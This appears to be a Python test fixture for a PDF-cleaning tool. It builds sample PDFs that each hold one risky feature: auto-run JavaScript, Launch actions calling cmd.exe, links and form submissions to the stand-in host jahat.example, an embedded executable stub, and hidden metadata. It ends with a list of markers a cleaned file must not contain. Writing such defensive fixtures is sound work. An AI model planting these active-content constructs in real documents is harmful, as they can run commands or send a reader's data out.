"""How do papers come that hold more than they show? Built by hand, each with its harm in the open."""

import io
import random
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image

JS = "app.alert('halo dari berkas')"
NOWHERE = "https://jahat.example/ambil"


def blank(pages: int = 1) -> Pdf:
    """Return a PDF of white A4 pages."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def saved(pdf: Pdf, **how: object) -> bytes:
    """Return the bytes of a PDF, its streams left readable."""
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False, **how)
    return buffer.getvalue()


def shot(size: tuple[int, int] = (640, 480)) -> bytes:
    """Return a photo as a phone takes it: lying on its side, with the place, the phone and words in it."""
    buffer = io.BytesIO()
    noise = random.Random(7).randbytes(3 * 40 * 30)
    picture = Image.frombytes("RGB", (40, 30), noise).resize(size)
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "PONSEL-RAHASIA", 6
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "S", (6.0, 54.0, 17.0)
    picture.save(
        buffer,
        "JPEG",
        exif=exif,
        comment=b"KOMENTAR-RAHASIA",
        xmp=b"<x:xmpmeta>XMP-RAHASIA</x:xmpmeta>",
        icc_profile=b"ICC-RAHASIA" * 20,
    )
    return buffer.getvalue() + b"DI-BELAKANG-RAHASIA"


def action(kind: str, **more: object) -> Dictionary:
    """Return an action of a PDF."""
    return Dictionary(Type=Name.Action, S=Name(kind), **more)


def _opens_with_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = action("/JavaScript", JS=JS)


def _names_scripts(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["satu", action("/JavaScript", JS=JS)]))
    )


def _acts_on_turning(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=action("/JavaScript", JS=JS))
    pdf.pages[0].obj.AA = Dictionary(O=action("/Launch", F="cmd.exe"))


def _links_out(pdf: Pdf) -> None:
    launch = action("/Launch", F="cmd.exe", Next=action("/JavaScript", JS=JS))
    rows = [action("/URI", URI=NOWHERE), launch, action("/SubmitForm", F=NOWHERE)]
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=row)
            )
            for row in rows
        ]
    )


def _carries_a_file(pdf: Pdf) -> None:
    inside = pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F="mal.exe",
            EF=Dictionary(F=pdf.make_stream(b"MZ-DALAM", Type=Name.EmbeddedFile)),
        )
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["mal.exe", inside])))
    pdf.Root.AF = Array([inside])
    pdf.Root.Collection = Dictionary(Type=Name.Collection)
    pdf.pages[0].obj.AF = Array([inside])


def _plays(pdf: Pdf) -> None:
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.RichMedia,
                    Rect=Array([0, 0, 9, 9]),
                    RichMediaContent=Dictionary(Assets=pdf.make_stream(b"FLASH-DALAM")),
                )
            )
        ]
    )


def _asks(pdf: Pdf) -> None:
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T="nama",
            V="diisi",
            Subtype=Name.Widget,
            Type=Name.Annot,
            Rect=Array([100, 700, 300, 730]),
            AA=Dictionary(K=action("/JavaScript", JS=JS)),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        XFA=pdf.make_stream(b"<xdp>XFA-DALAM</xdp>"),
        DA="/Helv 12 Tf 0 g",
        DR=Dictionary(
            Font=Dictionary(
                Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
        ),
    )


def _draws_from_elsewhere(pdf: Pdf) -> None:
    away = pdf.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), F=NOWHERE
    )
    away.Ref = Dictionary(F=NOWHERE, Page=0)
    away.OPI = Dictionary(V=Dictionary(F=NOWHERE))
    script = pdf.make_stream(b"%!PS-DALAM", Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=away, S=script))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/A Do /S Do")


def _tells_who_made_it(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = "PENULIS-RAHASIA"
    pdf.Root.Metadata = pdf.make_stream(b"<x>XMP-RAHASIA</x>", Type=Name.Metadata, Subtype=Name.XML)
    page = pdf.pages[0].obj
    page.PieceInfo = Dictionary(App=Dictionary(Private="PROGRAM-RAHASIA"))
    page.Metadata = pdf.make_stream(b"<x>XMP-RAHASIA</x>", Type=Name.Metadata, Subtype=Name.XML)
    pdf.trailer.ID = Array([pikepdf.String("NOMOR-RAHASIA"), pikepdf.String("NOMOR-RAHASIA")])
    page.Thumb = pdf.make_stream(b"THUMB-RAHASIA")


def _hides_behind_names(pdf: Pdf) -> None:
    """Put actions where none belongs: in a tree of pages, a resource, an array, far down."""
    pdf.Root.Pages.AA = Dictionary(O=action("/JavaScript", JS=JS))
    deep = Dictionary(Aksi=Array([Array([Dictionary(Di=action("/JavaScript", JS=JS))])]))
    pdf.pages[0].obj.Resources = Dictionary(Properties=Dictionary(MC0=deep))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary(X=action("/Launch", F="c")))


def embedding(photo: bytes, *, filters: object = Name.DCTDecode, packed: bytes = b"") -> bytes:
    """Return a PDF with a photo in it, as programs that scan with the camera write it."""
    pdf = blank()
    with Image.open(io.BytesIO(photo)) as picture:
        width, height = picture.size
    image = Stream(pdf, packed or photo)
    image.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=width,
        Height=height,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
    )
    image.write(packed or photo, filter=filters)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return saved(pdf)


HARM: dict[str, Callable[[Pdf], None]] = {
    "opens with a script": _opens_with_script,
    "names scripts": _names_scripts,
    "acts when pages are turned": _acts_on_turning,
    "links out": _links_out,
    "carries a file": _carries_a_file,
    "plays": _plays,
    "asks": _asks,
    "draws from elsewhere": _draws_from_elsewhere,
    "tells who made it": _tells_who_made_it,
    "hides behind names": _hides_behind_names,
}
# What must not be found in a file that was cleaned, whether it is packed or not.
MARKS = (
    b"/JavaScript", b"/JS", b"halo dari berkas", b"/Launch", b"cmd.exe", b"/AA", b"/OpenAction",
    b"jahat.example", b"/EmbeddedFile", b"MZ-DALAM", b"/AF", b"/Collection", b"FLASH-DALAM",
    b"/RichMedia", b"XFA-DALAM", b"/AcroForm", b"%!PS-DALAM", b"RAHASIA", b"/Annots", b"/OPI", b"/Ref ",
    b"52414841534941",  # RAHASIA, as an identifier is written
)  # fmt: skip


def harmful(kind: str) -> bytes:
    """Return a PDF of one page that does harm in one way."""
    pdf = blank()
    HARM[kind](pdf)
    return saved(pdf)
